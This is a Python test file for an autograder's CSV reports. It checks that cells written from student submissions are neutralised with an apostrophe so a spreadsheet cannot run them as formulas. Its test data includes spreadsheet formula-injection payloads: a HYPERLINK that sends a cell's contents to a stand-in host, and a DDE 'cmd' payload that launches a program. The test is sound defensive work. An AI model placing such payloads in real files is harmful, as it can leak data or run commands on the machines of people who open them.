"""The CSV reports, as a spreadsheet reads them: no text cell can be taken for a formula, numbers stay numbers."""

import csv

from autograder import reports
from autograder.student_result import StudentResult

FORMULAS = ['=HYPERLINK("http://example.com/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def test_no_cell_a_submission_wrote_starts_a_formula_and_numbers_are_kept(tmp_path):
    result = StudentResult("s1", tests=[("02_max_pooling", "pool_forward", -1.5, 2)],
                           review=[("02_max_pooling", formula, 0, 2, formula) for formula in FORMULAS])
    reports.write_review([result], tmp_path / "review.csv")
    reports.write_tests([result], tmp_path / "tests.csv")
    with open(tmp_path / "review.csv", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["kit_reason"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert [row["grade_id"] for row in rows] == ["'" + formula for formula in FORMULAS]
    with open(tmp_path / "tests.csv", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["points"] == "-1.5" and row["grade_id"] == "pool_forward"  # a negative number is not text
